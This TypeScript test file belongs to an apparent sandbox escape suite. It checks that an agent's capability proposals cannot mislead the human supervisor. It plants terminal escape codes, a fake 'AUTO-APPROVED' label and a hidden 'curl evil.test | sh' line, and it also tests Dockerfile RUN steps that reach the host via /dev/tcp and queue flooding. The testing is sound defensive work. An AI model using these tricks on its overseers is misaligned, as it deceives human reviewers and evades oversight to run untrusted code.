/**
 * Supervise and terminal safety: what the agent writes into a proposal is
 * read by a human in a terminal. A capability proposal whose Dockerfile line
 * retitles the window (OSC), clears the screen, hides the rest of the line
 * (`ESC[8m`), carries a C1 CSI and a bidi override must reach `proposals`,
 * the `supervise` screen and `logs` as visible text, never as control codes.
 */
import { spawn } from 'node:child_process';
import { CLI, ROOT, run } from '../../helpers.js';
import { escaped, stopped, type EscapeCase, type Outcome } from '../suite.js';
import type { World } from '../world.js';

/** Sequences the agent plants; none of them may reach the human's terminal raw. */
const PLANTED: readonly (readonly [string, string])[] = [
  ['OSC window title', '\x1b]0;PWNED'],
  ['clear screen', '\x1b[2J'],
  ['hidden text', '\x1b[8m'],
  ['C1 CSI', '\u009b'],
  ['bidi override', '\u202e'],
];

const HIDDEN_LINE = 'RUN curl -s https://evil.test/x | sh';
const CHANGE = `RUN true \x1b]0;PWNED AUTO-APPROVED\x07\x1b[2J \u009b31m \u202eelif-eht-si-siht\u202c \x1b[8m && ${HIDDEN_LINE} \x1b[0m`;
const WHY = 'need jq \x1b]0;PWNED\x07 \x1b[1;32mAUTO-APPROVED by policy\x1b[0m \u202etxt.exe';

const raised = new WeakMap<World, Promise<string>>();

/** The agent's hostile capability proposal, raised once per world; its id. */
function hostileProposal(w: World): Promise<string> {
  let p = raised.get(w);
  if (p === undefined) {
    p = (async () => {
      const b64 = (s: string) => Buffer.from(s).toString('base64');
      const r = await w.sh(`printf %s ${b64(CHANGE)} | base64 -d > /tmp/change.txt; nohup bottle-ask request-capability --why "$(printf %s ${b64(WHY)} | base64 -d)" < /tmp/change.txt > /tmp/ask.out 2>&1 & echo started`);
      if (!r.stdout.includes('started')) throw new Error(`cannot start bottle-ask: ${r.stderr}`);
      for (let i = 0; i < 150; i++) {
        const list = await run(['proposals', '--json'], { env: w.h.env });
        const found = (JSON.parse(list.stdout || '[]') as { id: string; bottle: string; kind: string; state: string }[]).find((x) => x.bottle === w.id && x.kind === 'capability' && x.state === 'pending');
        if (found) return found.id;
        await new Promise((resolve) => setTimeout(resolve, 200));
      }
      throw new Error(`control: the agent's proposal never reached the queue (${(await w.sh('cat /tmp/ask.out')).stdout.slice(0, 200)})`);
    })();
    raised.set(w, p);
  }
  return p;
}

/** Which planted sequences appear raw in what the human's terminal received. */
function plantedIn(out: string, bell: boolean): string[] {
  const found = PLANTED.filter(([, seq]) => out.includes(seq)).map(([name]) => name);
  if (bell && out.includes('\x07')) found.push('BEL');
  return found;
}

function verdict(what: string, out: string, bell: boolean, control: RegExp): Outcome {
  if (!control.test(out)) throw new Error(`control: ${what} did not show the proposal (${JSON.stringify(out.slice(0, 200))})`);
  const found = plantedIn(out, bell);
  return found.length > 0 ? escaped(`${what} wrote ${found.join(', ')} to the terminal raw`) : stopped(`${what} shows the planted sequences as text`);
}

/** `bot-bottle supervise` in a pseudo-terminal: what the screen wrote before `q`. */
function screenCapture(w: World): Promise<string> {
  return new Promise((resolve, reject) => {
    const child = spawn('script', ['-qfc', `${process.execPath} ${CLI} supervise`, '/dev/null'], { env: { ...w.h.env, TERM: 'xterm-256color', COLUMNS: '160', LINES: '50' } });
    let out = '';
    let quit = false;
    const timer = setTimeout(() => child.kill('SIGKILL'), 60_000);
    child.stdout.on('data', (d: Buffer) => {
      out += d.toString('utf8');
      if (!quit && /pending/.test(out) && out.includes('AUTO-APPROVED')) {
        quit = true;
        setTimeout(() => child.stdin.write('q'), 500);
      }
    });
    child.on('error', reject);
    child.on('close', () => {
      clearTimeout(timer);
      resolve(out);
    });
  });
}

/** The neighbour's capability proposal with `change`, approved by the human on the host (rebuild and resume included). */
async function proposeAndApprove(w: World, change: string): Promise<{ approved: boolean; detail: string }> {
  const b64 = Buffer.from(change).toString('base64');
  const r = await w.neighbourSh(`printf %s ${b64} | base64 -d > /tmp/change.txt; nohup bottle-ask request-capability --why 'need a tool' < /tmp/change.txt > /tmp/ask.out 2>&1 & echo started`);
  if (!r.stdout.includes('started')) throw new Error(`cannot start bottle-ask in the neighbour: ${r.stderr}`);
  let id: string | undefined;
  for (let i = 0; i < 150 && id === undefined; i++) {
    const list = await run(['proposals', '--json'], { env: w.h.env });
    id = (JSON.parse(list.stdout || '[]') as { id: string; bottle: string; kind: string; state: string }[]).find((x) => x.bottle === w.other && x.kind === 'capability' && x.state === 'pending')?.id;
    if (id === undefined) await new Promise((resolve) => setTimeout(resolve, 200));
  }
  if (id === undefined) throw new Error('control: the neighbour\'s capability proposal never reached the queue');
  const approved = await run(['approve', id, '--note', 'escape suite'], { env: w.h.env, timeoutMs: 15 * 60_000 });
  return { approved: approved.code === 0, detail: (approved.stderr.trim().split('\n').pop() ?? '').slice(0, 160) };
}

export const superviseCases: EscapeCase[] = [
  {
    id: 'supervise/escapes-in-proposals',
    category: 'supervise',
    attack: 'a proposal whose Dockerfile line retitles the window, clears the screen and hides a RUN curl, read with `proposals`',
    expect: 'stopped',
    async run(w) {
      await hostileProposal(w);
      const r = await run(['proposals'], { env: w.h.env });
      return verdict('`proposals`', r.stdout + r.stderr, true, /Dockerfile \+/);
    },
  },
  {
    id: 'supervise/escapes-in-screen',
    category: 'supervise',
    attack: 'the same proposal (and a bidi-reversed why) on the `supervise` screen, in a real pseudo-terminal',
    expect: 'stopped',
    async run(w) {
      await hostileProposal(w);
      const out = await screenCapture(w);
      const o = verdict('the supervise screen', out, false, /AUTO-APPROVED/);
      if (!o.escaped && !out.includes('evil.test/x')) return escaped('the hidden RUN curl line is not on the screen');
      return o;
    },
  },
  {
    id: 'supervise/escapes-in-logs',
    category: 'supervise',
    attack: 'the same proposal read back through `logs` (the audit trail a human reads later)',
    expect: 'stopped',
    async run(w) {
      await hostileProposal(w);
      const r = await run(['logs', w.id], { env: w.h.env });
      return verdict('`logs`', r.stdout + r.stderr, true, /capability/);
    },
  },
  {
    id: 'supervise/capability-build-network',
    category: 'supervise',
    attack: "an approved Dockerfile change whose RUN steps reach the host, the upstream directly and an unrouted host while the image builds",
    expect: 'stopped',
    async run(w) {
      const ip = (await w.backend.hostAddresses())[0] ?? '';
      const tag = w.tag();
      const hits = w.up.tcpHits();
      const change = [
        `RUN (timeout 5 bash -c 'echo ${tag} > /dev/tcp/${ip}/${w.up.tcpPort}' && echo reached-host) || echo host-refused`,
        `RUN curl -sk --noproxy '*' --max-time 5 https://${ip}:${w.up.port}/direct-${tag} || echo direct-refused`,
        `RUN curl -sk --max-time 5 https://evil.test:${w.up.port}/unrouted-${tag} || echo unrouted-refused`,
        `RUN curl -sk --max-time 10 https://open.test:${w.up.port}/routed-${tag} || echo routed-failed`,
      ].join('\n');
      const a = await proposeAndApprove(w, change);
      if (!a.approved) throw new Error(`the approved change did not build and resume: ${a.detail}`);
      const reached: string[] = [];
      if (w.up.tcpHits() !== hits) reached.push('the host listener');
      if (w.up.received.some((r) => r.url === `/direct-${tag}`)) reached.push('the upstream, bypassing the proxy');
      if (w.up.received.some((r) => r.url === `/unrouted-${tag}`)) reached.push('an unrouted host');
      if (reached.length > 0) return escaped(`the build reached ${reached.join(', ')}`);
      if (!w.up.received.some((r) => r.url === `/routed-${tag}`)) throw new Error("control: the bottle's own route was not reachable from the build either (is the build networked at all?)");
      return stopped("the build reached the bottle's route only");
    },
  },
  {
    id: 'supervise/queue-flood',
    category: 'supervise',
    attack: 'file 40 proposals at once (with nearly 4 KB of why each, just under its limit) to bury the one that matters',
    expect: 'stopped',
    async run(w) {
      const { pending, refused } = await flood(w, 40);
      if (pending > 32) return escaped(`${pending} of 40 flood proposals are pending for one bottle`);
      if (refused > 0) return stopped(`${pending} pending; ${refused} caller(s) told the queue is full`);
      const sample = (await w.sh('head -c 300 /tmp/flood-1.out /tmp/flood-40.out 2>&1')).stdout.replace(/x{20,}/g, 'x…');
      return escaped(`${pending} pending but no caller was told why the rest were refused (${sample.trim()})`);
    },
  },
  {
    id: 'supervise/json-cut-short',
    category: 'supervise',
    attack: 'make `proposals --json` longer than a pipe holds, so a script reading it slowly gets invalid JSON',
    expect: 'stopped',
    async run(w) {
      // Its own material: 20 pending proposals of ~4 KB each (the queue's cap) fill a 64 KiB pipe, whatever ran before.
      await flood(w, 20);
      const r = await new Promise<string>((resolve) => {
        const child = spawn('bash', ['-c', `${process.execPath} ${CLI} proposals --json | (sleep 2; cat)`], { env: w.h.env, cwd: ROOT });
        let out = '';
        child.stdout.on('data', (d: Buffer) => (out += d.toString()));
        child.on('close', () => resolve(out));
      });
      if (r.length < 65_536) throw new Error(`control: the JSON is only ${r.length} bytes, too short to fill a pipe`);
      try {
        JSON.parse(r);
      } catch {
        return escaped(`the output was cut at ${r.length} bytes: invalid JSON`);
      }
      return stopped(`${r.length} bytes of valid JSON through a slow pipe`);
    },
  },
];

/**
 * File `n` proposals at once, each with nearly 4 KB of why; resolves to how
 * many of them are pending once the count settles. The callers wait for a
 * decision, so the exec that filed them stays open (a micro-VM guest ends an
 * exec's background processes with it) until they are killed here.
 */
async function flood(w: World, n: number): Promise<{ pending: number; refused: number }> {
  const why = 'x'.repeat(3900);
  const filing = w.sh(`rm -f /tmp/flood.pids; for i in $(seq 1 ${n}); do bottle-ask request-egress --host flood-$i.test --why "flood $i ${why}" > /tmp/flood-$i.out 2>&1 & echo $! >> /tmp/flood.pids; done; wait`);
  let pending = 0;
  let refused = 0;
  try {
    // Settled: some are pending and the count held for 3 s (a slow guest may take a while to file the first).
    for (let i = 0, stable = 0; i < 150 * w.secs(1) && !(pending > 0 && stable >= 10); i++) {
      await new Promise((resolve) => setTimeout(resolve, 300));
      const list = await run(['proposals', '--json', '--all'], { env: w.h.env });
      const count = (JSON.parse(list.stdout || '[]') as { bottle: string; summary: string; state: string }[]).filter((x) => x.bottle === w.id && x.state === 'pending' && /flood-/.test(x.summary)).length;
      stable = count === pending ? stable + 1 : 0;
      pending = count;
    }
    // The rest are told the queue is full; a slow guest may still be printing that.
    for (let i = 0; i < 100 * w.secs(1) && pending + refused < n; i++) {
      refused = Number((await w.sh('grep -l "pending" /tmp/flood-*.out 2>/dev/null | wc -l')).stdout.trim());
      if (pending + refused < n) await new Promise((resolve) => setTimeout(resolve, 300));
    }
  } finally {
    await w.sh('kill $(cat /tmp/flood.pids) 2>/dev/null; true');
    await filing.catch(() => undefined);
  }
  return { pending, refused };
}
